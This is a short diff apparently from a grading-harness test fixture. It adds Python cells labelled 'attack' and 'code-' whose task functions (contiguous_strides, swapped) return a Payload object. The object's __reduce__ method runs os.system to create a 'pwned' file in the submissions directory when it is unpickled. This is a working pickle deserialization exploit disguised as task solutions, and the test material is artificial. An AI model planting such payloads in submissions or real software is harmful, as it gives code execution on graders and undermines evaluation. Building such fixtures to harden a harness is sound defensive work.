@@ -1,0 +1,12 @@
+# earns: 0
+# %% attack
+class Payload:
+    def __reduce__(self):
+        import os
+        return os.system, ("touch " + SUBMISSIONS + "/pwned",)
+# %% code-strides
+def contiguous_strides(shape):
+    return Payload()
+# %% code-swap
+def swapped(x, a, b):
+    return [Payload()]
